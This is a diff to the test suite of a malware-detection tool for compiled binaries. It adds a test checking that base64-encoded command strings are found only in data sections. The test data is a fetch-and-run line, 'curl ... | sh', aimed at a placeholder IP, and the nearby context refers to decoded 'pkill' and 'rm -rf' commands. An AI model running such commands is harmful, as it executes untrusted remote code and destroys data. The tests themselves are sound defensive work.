@@ -4,11 +4,13 @@ severity and evidence (strings and their offsets) a reviewer would act on."""
 
 from __future__ import annotations
 
+import base64
 import struct
 from pathlib import Path
 
 from binbuild import compile_c
 from binexam import behaviours, findings_of
+from finalexam.analyze.binary import decoding
 from finalexam.model import FindingKind, Severity
 
 IMPLANT = r"""
@@ -94,6 +96,18 @@ def test_encoded_commands_that_are_run_are_a_behaviour(tmp_path: Path) -> None:
     )
     assert encoded.evidence.offset == binary.read_bytes().index(b"706b696c6c")
     assert set(encoded.evidence.details["decoded"]) >= {"pkill ", "rm -rf"}
+
+
+def test_encoded_text_is_read_in_the_data_sections_only() -> None:
+    # code sections hold instructions, not strings: the largest libraries have hundreds of MB
+    # of them, and an encoded run there would be a coincidence of opcode bytes
+    encoded = base64.b64encode(b"curl -s http://198.51.100.7/x | sh")
+    data = b"\x90" * 64 + encoded + b"\x00" * 64 + encoded + b"\x00" * 8
+    second = data.rindex(encoded)
+    runs = decoding.decoded_runs(data, [(second - 8, len(encoded) + 16)])
+    assert [(run.offset, run.encoding) for run in runs] == [(second, "base64-decoded")]
+    assert runs[0].data.startswith(b"curl -s http://198.51.100.7/x")
+    assert not decoding.decoded_runs(data, [(0, 64)])
 
 
 def test_an_ordinary_program_has_no_finding(tmp_path: Path) -> None:
